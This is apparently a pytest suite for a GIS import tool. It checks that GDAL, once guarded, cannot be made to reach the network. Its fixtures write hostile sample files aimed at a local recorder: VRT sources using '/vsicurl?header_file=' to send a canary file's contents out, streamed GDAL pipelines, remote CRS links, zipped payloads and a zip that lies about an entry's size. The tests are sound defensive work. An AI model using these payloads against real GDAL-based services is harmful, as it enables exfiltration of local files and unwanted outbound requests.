"""Hostile files (issue 11): nothing a file or a path holds makes GDAL reach the network
or send a local file anywhere. A listener on 127.0.0.1 (an HTTP server in a thread)
stands where each file points and must receive nothing; a canary file's content must
never leave. Each import is a dry run, so a refusal is not hidden by a failed write."""
from __future__ import annotations

import json
import secrets
import struct
import subprocess
import sys
import threading
import urllib.request
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pyogrio
import pytest
import rasterio
import rasterio.env
from click.testing import CliRunner

from gisdb.errors import GisdbError, ImportFailed, UnsafeInput
from gisdb.importing.gdal_guard import KEPT_DRIVERS, OFFLINE_CONFIG, REFUSED, guard_gdal
from gisdb.rasters import GDAL_SAFE_ENV, add_raster
from import_support import count, imp_engine, imp_settings, run, write_parcels  # noqa: F401
from scripts.cli import main

FEATURES = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [108.2, 16.05]},
             "properties": {"ward_code": "20194", "sheet_no": 1, "parcel_no": 1}}]


class _Recorder(BaseHTTPRequestHandler):
    def _record(self):
        self.server.requests.append((self.command, self.path, dict(self.headers)))
        body = json.dumps({"type": "FeatureCollection", "features": FEATURES}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    do_GET = do_HEAD = do_POST = _record

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """A local HTTP server recording every request it receives."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def canary(tmp_path):
    """A local file of "header: value" lines holding a secret token."""
    token = secrets.token_hex(16)
    path = tmp_path / "canary.txt"
    path.write_text(f"X-Canary: {token}\n")
    return path, token


def _silent(listener, token: str | None = None) -> None:
    assert listener.requests == [], f"GDAL reached the network: {listener.requests}"
    if token:
        assert token not in repr(listener.requests)


def _vrt(source: str) -> str:
    return (f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{source}'
            '</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>')


def _geojson(path, **members):
    path.write_text(json.dumps({"type": "FeatureCollection", **members, "features": FEATURES}))
    return path


def test_the_listener_hears_a_plain_request(listener):
    """The control: without GDAL in the way, a request does arrive."""
    with urllib.request.urlopen(f"{listener.url}/ping", timeout=5) as answer:
        assert answer.status == 200
    assert [r[:2] for r in listener.requests] == [("GET", "/ping")]


@pytest.mark.parametrize("name, content", [
    ("bom.csv", lambda url, canary: "\ufeff" + _vrt(f"/vsicurl/{url}/bom.geojson")),
    ("line2.csv", lambda url, canary: "wkt\n" + _vrt(f"/vsicurl/{url}/line2.geojson")),
    ("exfil.csv", lambda url, canary: "\ufeff" + _vrt(f"/vsicurl?header_file={canary}&amp;url={url}/x")),
    ("exfil2.csv", lambda url, canary: "wkt\n" + _vrt(f"/vsicurl?header_file={canary}&amp;url={url}/x")),
    ("alg.json", lambda url, canary: json.dumps({
        "type": "gdal_streamed_alg",
        "command_line": f"gdal vector pipeline ! read /vsicurl/{url}/alg.geojson ! write --of stream x"})),
    ("alg.geojson", lambda url, canary: json.dumps({
        "type": "gdal_streamed_alg",
        "command_line": f"gdal vector pipeline ! read /vsicurl?header_file={canary}&url={url}/a ! "
                        "write --of stream x"})),
])
def test_hostile_content_reaches_nothing(imp_engine, imp_settings, tmp_path, listener, canary,
                                         name, content):
    path = tmp_path / name
    path.write_text(content(listener.url, canary[0]), encoding="utf-8")
    before = count(imp_engine, "parcels")
    with pytest.raises(GisdbError):
        run(imp_engine, imp_settings, "parcels", path, dry_run=True)
    _silent(listener, canary[1])
    assert count(imp_engine, "parcels") == before


def test_gdal_pipeline_is_named_as_such(imp_engine, imp_settings, tmp_path, listener):
    path = tmp_path / "pipe.json"
    path.write_text(json.dumps({"type": "gdal_streamed_alg",
                                "command_line": f"gdal vector pipeline ! read /vsicurl/{listener.url}/p"}))
    with pytest.raises(UnsafeInput, match="GDAL pipeline"):
        run(imp_engine, imp_settings, "parcels", path, dry_run=True)
    _silent(listener)


@pytest.mark.parametrize("crs", [
    {"type": "link", "properties": {"href": "{url}/crs.json", "type": "proj4"}},
    {"type": "name", "properties": {"name": "{url}/crs-name"}},
    {"type": "name", "properties": {"name": "/vsicurl/{url}/crs-vsi"}},
])
def test_remote_crs_is_refused_with_a_message(imp_engine, imp_settings, tmp_path, listener, crs):
    crs = json.loads(json.dumps(crs).replace("{url}", listener.url))
    path = _geojson(tmp_path / "linked.geojson", crs=crs)
    with pytest.raises(UnsafeInput, match="remote CRS links are refused"):
        run(imp_engine, imp_settings, "parcels", path, dry_run=True)
    _silent(listener)


def test_a_named_crs_still_loads(imp_engine, imp_settings, tmp_path, listener):
    """The control: a CRS that only names itself is read as before."""
    path = write_parcels(tmp_path / "named.geojson", 4, driver="GeoJSON")
    data = json.loads(path.read_text())
    data["crs"] = {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}
    path.write_text(json.dumps(data))
    report = run(imp_engine, imp_settings, "parcels", path, dry_run=True)
    assert report.read == 4 and report.crs["crs"].startswith("EPSG:4326")
    _silent(listener)


def test_hostile_files_inside_a_zip(imp_engine, imp_settings, tmp_path, listener, canary):
    crs = {"type": "link", "properties": {"href": f"{listener.url}/zipped-crs.json"}}
    for name, data in (("a.geojson", json.dumps({"type": "FeatureCollection", "crs": crs,
                                                 "features": FEATURES})),
                       ("b.csv", "wkt\n" + _vrt(f"/vsicurl?header_file={canary[0]}&amp;url={listener.url}/z"))):
        archive = tmp_path / f"{name}.zip"
        with zipfile.ZipFile(archive, "w") as zf:
            zf.writestr(name, data)
        with pytest.raises(GisdbError):
            run(imp_engine, imp_settings, "parcels", archive, dry_run=True)
    _silent(listener, canary[1])


def test_a_prj_holding_a_url_reaches_nothing(imp_engine, imp_settings, tmp_path, listener):
    shp = write_parcels(tmp_path / "p.shp", 3, driver="ESRI Shapefile")
    shp.with_suffix(".prj").write_text(f"{listener.url}/prj")
    with pytest.raises(GisdbError, match="CRS"):
        run(imp_engine, imp_settings, "parcels", shp, dry_run=True)
    _silent(listener)


def test_network_and_virtual_paths_are_refused(imp_engine, imp_settings, settings, engine, listener, canary):
    paths = [f"/vsicurl/{listener.url}/direct.geojson", f"{listener.url}/plain.geojson",
             f"/vsicurl?header_file={canary[0]}&url={listener.url}/h.geojson",
             f"GeoJSON:/vsicurl/{listener.url}/g.geojson"]
    for path in paths:
        with pytest.raises(UnsafeInput, match="not a local file"):
            run(imp_engine, imp_settings, "parcels", path, dry_run=True)
        with pytest.raises(UnsafeInput, match="not a local file"):
            add_raster(engine, settings, "remote", path.replace(".geojson", ".tif"))
    _silent(listener, canary[1])


def test_gdal_network_is_off_in_both_gdals(tmp_path, listener, canary):
    """Below our own checks: GDAL itself, asked directly, reaches nothing once guarded."""
    guard_gdal()
    for path in (f"/vsicurl/{listener.url}/a.geojson", f"{listener.url}/b.geojson",
                 f"/vsicurl?header_file={canary[0]}&url={listener.url}/c.geojson"):
        with pytest.raises(Exception):
            pyogrio.read_info(path)
        with pytest.raises(Exception):
            rasterio.open(path.replace(".geojson", ".tif"))
    linked = _geojson(tmp_path / "direct.geojson",
                      crs={"type": "link", "properties": {"href": f"{listener.url}/direct-crs.json"}})
    pyogrio.read_info(linked)                 # GDAL asks for the link: the guard answers
    assert f"{listener.url}/direct-crs.json" in REFUSED
    with pytest.raises(Exception):
        rasterio.crs.CRS.from_user_input(f"{listener.url}/rasterio-crs")
    assert f"{listener.url}/rasterio-crs" in REFUSED
    _silent(listener, canary[1])


def test_the_guard_is_set_in_both_gdals_and_every_import_sets_it_again():
    guard_gdal()
    with rasterio.Env(**GDAL_SAFE_ENV):     # raster work between imports
        pass
    guard_gdal()                            # what every import and raster load does first
    for key, value in OFFLINE_CONFIG.items():
        assert str(pyogrio.get_gdal_config_option(key)).upper() in (value.upper(), _bool(value))
        assert rasterio.env.get_gdal_config(key, normalize=False) == value
    assert set(pyogrio.list_drivers()) <= set(KEPT_DRIVERS)
    assert {"GeoJSON", "ESRI Shapefile", "GPKG", "FlatGeobuf", "CSV"} <= set(pyogrio.list_drivers())


def _bool(value: str) -> str:
    return {"NO": "FALSE", "OFF": "FALSE", "YES": "TRUE", "ON": "TRUE"}.get(value.upper(), value.upper())


def test_a_vrt_is_not_readable_at_all_once_guarded(tmp_path):
    guard_gdal()
    vrt = tmp_path / "x.vrt"
    vrt.write_text(_vrt(str(write_parcels(tmp_path / "p.geojson", 2, driver="GeoJSON"))))
    with pytest.raises(Exception, match="not recognized"):
        pyogrio.read_info(vrt)


def _lying_zip(path, delta: int):
    """A zip whose central directory says its entry is `delta` bytes longer than it is."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("p.geojson", json.dumps({"type": "FeatureCollection", "features": FEATURES}) * 20)
    data = bytearray(path.read_bytes())
    size_at = data.find(b"PK\x01\x02") + 24
    size = struct.unpack("<I", data[size_at:size_at + 4])[0]
    data[size_at:size_at + 4] = struct.pack("<I", size + delta)
    path.write_bytes(bytes(data))
    return path


def test_a_zip_lying_about_a_size_is_a_clear_cli_message(imp_engine, imp_settings, tmp_path):
    archive = _lying_zip(tmp_path / "lying.zip", -10)
    env = {"GISDB_DATABASE_URL": imp_settings.database_url, "GISDB_DATA_DIR": str(imp_settings.data_dir)}
    result = CliRunner().invoke(main, ["import", "parcels", str(archive), "--dry-run", "--quiet"], env=env)
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert "ImportFailed" in result.output and "lying.zip" in result.output
    assert "damaged" in result.output and "Traceback" not in result.output


FRESH_PROCESS = """
import json, sys
from pathlib import Path
import numpy as np, rasterio, rasterio.env
from rasterio.transform import from_origin
from gisdb.importing.gdal_guard import REFUSED
from gisdb.importing.sources import open_source
from gisdb.rasters import write_cog
linked, tif = Path(sys.argv[1]), Path(sys.argv[2])
try:
    with open_source(linked, None) as source:      # trusted as checked: only the guard stands
        pass
except Exception:
    pass
with rasterio.open(tif, "w", driver="GTiff", width=8, height=8, count=1, dtype="uint8",
                   crs="EPSG:4326", transform=from_origin(108.2, 16.1, 0.001, 0.001)) as out:
    out.write(np.ones((1, 8, 8), dtype="uint8"))
cog, _, _ = write_cog(tif, tif.parent / "cogs", kind="generic")
print(json.dumps({"refused": list(REFUSED),
                  "rasterio": rasterio.env.get_gdal_config("CPL_VSIL_CURL_ALLOWED_FILENAME", normalize=False)}))
"""


def test_a_fresh_process_is_guarded_before_its_first_open(tmp_path, listener):
    """`open_source` and `write_cog` guard GDAL themselves, before they open anything."""
    linked = _geojson(tmp_path / "fresh.geojson",
                      crs={"type": "link", "properties": {"href": f"{listener.url}/fresh-crs.json"}})
    done = subprocess.run([sys.executable, "-c", FRESH_PROCESS, str(linked), str(tmp_path / "r.tif")],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    facts = json.loads(done.stdout.strip().splitlines()[-1])
    assert f"{listener.url}/fresh-crs.json" in facts["refused"]
    assert facts["rasterio"] == OFFLINE_CONFIG["CPL_VSIL_CURL_ALLOWED_FILENAME"]
    _silent(listener)


def test_damaged_and_empty_files_are_clear_errors(imp_engine, imp_settings, tmp_path):
    gpkg = write_parcels(tmp_path / "whole.gpkg", 20, driver="GPKG")
    cut = tmp_path / "cut.gpkg"
    cut.write_bytes(gpkg.read_bytes()[:4096])
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    for path, message in ((cut, "cut.gpkg cannot be read as GPKG"), (empty, "empty.csv: the file is empty")):
        with pytest.raises(ImportFailed, match=message):
            run(imp_engine, imp_settings, "parcels", path, dry_run=True)
